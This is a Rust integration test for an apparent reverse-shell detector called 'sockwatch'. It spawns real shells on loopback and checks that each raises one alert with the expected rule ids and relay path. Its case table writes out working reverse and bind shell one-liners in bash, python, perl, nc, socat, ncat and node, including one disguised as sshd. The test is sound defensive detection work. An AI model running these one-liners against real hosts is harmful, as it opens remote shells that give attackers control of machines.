//! The reverse-shell rule pack against real shells on loopback, under `sockwatch run --interval
//! 250ms`: each shell must raise one incident in the first scan that sees it (the alert's
//! `latency_scans` is 0), with the expected rule ids and relay path; legitimate look-alikes (an
//! ssh login, a shell in tmux, `curl | sh`, `echo | nc`, an inetd-style `cat`) must raise none.

use crate::agent::Agent;
use crate::util::{ScratchDir, prerequisites};
use serde_json::Value;
use std::io::{BufRead, BufReader};
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const CATCHER: &str = include_str!("fixtures/catcher.py");

/// The far end of a shell: tests/fixtures/catcher.py in some mode.
struct Catcher {
    child: Child,
    facts: Arc<Mutex<Vec<Value>>>,
}

impl Catcher {
    fn start(args: &[&str]) -> Catcher {
        let mut child = Command::new("python3")
            .args(["-c", CATCHER])
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .expect("start catcher");
        let facts = Arc::new(Mutex::new(Vec::new()));
        let sink = facts.clone();
        let stdout = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if let Ok(v) = serde_json::from_str::<Value>(&line) {
                    sink.lock().unwrap().push(v);
                }
            }
        });
        Catcher { child, facts }
    }

    fn wait(&self, key: &str) -> Option<Value> {
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if let Some(v) = self.facts.lock().unwrap().iter().find(|v| v.get(key).is_some()) {
                return Some(v[key].clone());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        None
    }

    fn port(&self) -> u16 {
        self.wait("port").and_then(|p| p.as_u64()).expect("catcher port") as u16
    }
}

impl Drop for Catcher {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A shell command line in its own process group, killed as a group when dropped.
struct Group(Child);

impl Group {
    fn start(script: &str) -> Group {
        Group(
            Command::new("bash")
                .args(["-c", script])
                .process_group(0)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("start scenario"),
        )
    }
}

impl Drop for Group {
    fn drop(&mut self) {
        if let Some(group) = rustix::process::Pid::from_raw(self.0.id() as i32) {
            let _ = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
        }
        let _ = self.0.wait();
    }
}

/// Where the far end sits, and what a scenario runs against it (`PORT` is replaced).
enum Far {
    /// A TCP listener the shell connects to.
    Tcp,
    /// A UDP socket the shell sends to.
    Udp,
    /// The shell listens on a port picked by the test; a client connects to it.
    Bind,
}

struct Case {
    name: &'static str,
    far: Far,
    script: &'static str,
    /// File name of the incident's top-most process.
    subject: &'static [&'static str],
    /// Rules that must be among the incident's.
    rules: &'static [&'static str],
    /// A relay whose name must be on the path (for relayed shells).
    relay: Option<&'static str>,
}

const CASES: &[Case] = &[
    Case {
        name: "bash -i >& /dev/tcp",
        far: Far::Tcp,
        script: "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
        subject: &["bash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        // bash opens the socket; the shell it runs is dash, which reads its input in blocks
        // (bash reads a byte at a time, which truncates datagrams: no one uses it over UDP).
        name: "bash: sh -i >& /dev/udp",
        far: Far::Udp,
        script: "sh -i >& /dev/udp/127.0.0.1/PORT 0>&1",
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "python socket + dup2 + subprocess sh",
        far: Far::Tcp,
        script: "python3 -c 'import socket,os,subprocess;s=socket.create_connection((\"127.0.0.1\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
        subject: &["python3.11", "python3"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "python pty.spawn",
        far: Far::Tcp,
        script: "python3 -c 'import socket,os,pty;s=socket.create_connection((\"127.0.0.1\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
        subject: &["python3.11", "python3"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("python3"),
    },
    Case {
        name: "perl open(STDIN, >&S); exec sh",
        far: Far::Tcp,
        script: "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(PORT,inet_aton(\"127.0.0.1\"))) or die;open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'",
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "nc.traditional -e /bin/sh",
        far: Far::Tcp,
        script: "nc.traditional -e /bin/sh 127.0.0.1 PORT",
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "mkfifo + cat | sh -i | nc",
        far: Far::Tcp,
        script: "f=$(mktemp -u); mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > $f",
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("nc"),
    },
    Case {
        name: "socat exec:sh (unix socketpair)",
        far: Far::Tcp,
        script: "socat tcp:127.0.0.1:PORT exec:sh",
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("socat"),
    },
    Case {
        name: "socat exec:'bash -li',pty,stderr,setsid",
        far: Far::Tcp,
        script: "socat tcp:127.0.0.1:PORT exec:'bash -li',pty,stderr,setsid",
        subject: &["bash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("socat"),
    },
    Case {
        name: "ncat -e /bin/sh",
        far: Far::Tcp,
        script: "ncat -e /bin/sh 127.0.0.1 PORT",
        subject: &["dash", "ncat"],
        rules: &[],
        relay: None,
    },
    Case {
        name: "node child_process.spawn piped to a socket",
        far: Far::Tcp,
        script: "node -e 'const net=require(\"net\"),cp=require(\"child_process\");const c=net.connect(PORT,\"127.0.0.1\",()=>{const sh=cp.spawn(\"/bin/sh\",[\"-i\"]);c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});'",
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("node"),
    },
    Case {
        name: "exec -a sshd reverse shell",
        far: Far::Tcp,
        script: "exec -a sshd bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
        subject: &["bash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "bind shell nc -l -p PORT -e /bin/sh",
        far: Far::Bind,
        script: "nc.traditional -l -s 127.0.0.1 -p PORT -e /bin/sh",
        subject: &["dash"],
        rules: &["bind-shell"],
        relay: None,
    },
    Case {
        name: "bind shell systemd-socket-activate --inetd /bin/sh",
        far: Far::Bind,
        script: "systemd-socket-activate --inetd -a -l 127.0.0.1:PORT /bin/sh -i",
        subject: &["dash"],
        rules: &["bind-shell"],
        relay: None,
    },
];

/// A loopback port nothing listens on now, below the ephemeral range like the ports bind shells
/// use (4444, 31337): with the listener gone before any scan sees it (`nc -l -e` closes it on
/// accept), direction rests on the port range alone.
fn free_port() -> u16 {
    // Never the same port twice in one run: each case's events are told apart by port.
    static NEXT: std::sync::atomic::AtomicU16 = std::sync::atomic::AtomicU16::new(0);
    let offset = NEXT.fetch_add(100, std::sync::atomic::Ordering::Relaxed);
    let start = 20_000 + (std::process::id() % 5_000) as u16 + offset;
    (start..32_000)
        .find(|p| std::net::TcpListener::bind(("127.0.0.1", *p)).is_ok())
        .expect("a free port below 32000")
}

fn is_incident_for(e: &Value, port: u16) -> bool {
    e["event"]["kind"] == "alert" && e["destination"]["port"] == port
}

fn names(list: &Value) -> Vec<String> {
    list.as_array()
        .into_iter()
        .flatten()
        .filter_map(|p| p["executable"].as_str().or(p["name"].as_str()))
        .map(|p| p.rsplit('/').next().unwrap_or(p).to_string())
        .collect()
}

/// Runs one case; returns what went wrong, if anything.
fn check(agent: &Agent, case: &Case) -> Result<(), String> {
    let (catcher, port, _shell);
    match case.far {
        Far::Tcp | Far::Udp => {
            catcher = Catcher::start(&[if matches!(case.far, Far::Tcp) {
                "tcp-listen"
            } else {
                "udp-listen"
            }]);
            port = catcher.port();
            _shell = Group::start(&case.script.replace("PORT", &port.to_string()));
        }
        Far::Bind => {
            port = free_port();
            _shell = Group::start(&case.script.replace("PORT", &port.to_string()));
            catcher = Catcher::start(&["tcp-connect", &port.to_string()]);
        }
    }
    if catcher.wait("ready").is_none() {
        return Err("the shell never answered (scenario broken, not detection)".into());
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    let opened = loop {
        let found = agent
            .events()
            .into_iter()
            .find(|e| is_incident_for(e, port) && e["event"]["action"] == "incident_opened");
        match found {
            Some(e) => break e,
            None if Instant::now() > deadline => {
                return Err("no incident_opened within 10 s".into());
            }
            None => std::thread::sleep(Duration::from_millis(50)),
        }
    };
    // Let the incident settle (rules and processes joining), then read all of it.
    std::thread::sleep(Duration::from_millis(800));
    let events: Vec<Value> =
        agent.events().into_iter().filter(|e| is_incident_for(e, port)).collect();
    let id = &opened["sockwatch"]["incident"]["id"];
    let mut problems = Vec::new();
    let opened_count = events.iter().filter(|e| e["event"]["action"] == "incident_opened").count();
    if opened_count != 1 || events.iter().any(|e| &e["sockwatch"]["incident"]["id"] != id) {
        let story: Vec<String> = events
            .iter()
            .map(|e| {
                format!(
                    "{} {} inode {} {} rules {} reason {}",
                    e["event"]["action"],
                    e["sockwatch"]["incident"]["id"],
                    e["sockwatch"]["socket"]["inode"],
                    e["process"]["executable"],
                    e["rule"]["id"],
                    e["sockwatch"]["incident"]["reason"]
                )
            })
            .collect();
        problems.push(format!("{opened_count} incidents opened for one shell: {story:#?}"));
    }
    let latency = &opened["sockwatch"]["incident"]["latency_scans"];
    if latency != 0 {
        problems.push(format!(
            "raised {latency} scans after the first that showed it (seq {} vs first seen {})",
            opened["sockwatch"]["incident"]["opened_seq"],
            opened["sockwatch"]["incident"]["first_seen_seq"]
        ));
    }
    let subject = names(&Value::Array(vec![opened["process"].clone()]));
    if !case.subject.iter().any(|s| subject.iter().any(|n| n == s)) {
        problems.push(format!("subject {subject:?}, expected one of {:?}", case.subject));
    }
    let last = events.last().unwrap_or(&opened);
    let rules: Vec<&str> =
        last["rule"]["id"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
    if rules.is_empty() || case.rules.iter().any(|r| !rules.contains(r)) {
        problems.push(format!("rules {rules:?}, expected at least {:?}", case.rules));
    }
    if let Some(relay) = case.relay {
        let relays = names(&last["sockwatch"]["incident"]["relay"]["relays"]);
        if !relays.iter().any(|r| r.starts_with(relay)) {
            problems.push(format!("relay path {relays:?} lacks {relay}"));
        }
    }
    if problems.is_empty() { Ok(()) } else { Err(problems.join("; ")) }
}

#[test]
fn reverse_and_bind_shells_alert_in_the_first_scan_that_sees_them() {
    if !prerequisites(&[
        "python3",
        "perl",
        "socat",
        "nc",
        "nc.traditional",
        "ncat",
        "node",
        "systemd-socket-activate",
    ]) {
        return;
    }
    let agent = Agent::start(&["--interval", "250ms", "--no-baseline"]);
    let mut failures = Vec::new();
    for case in CASES {
        if let Err(why) = check(&agent, case) {
            failures.push(format!("{}: {why}", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} shells missed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}
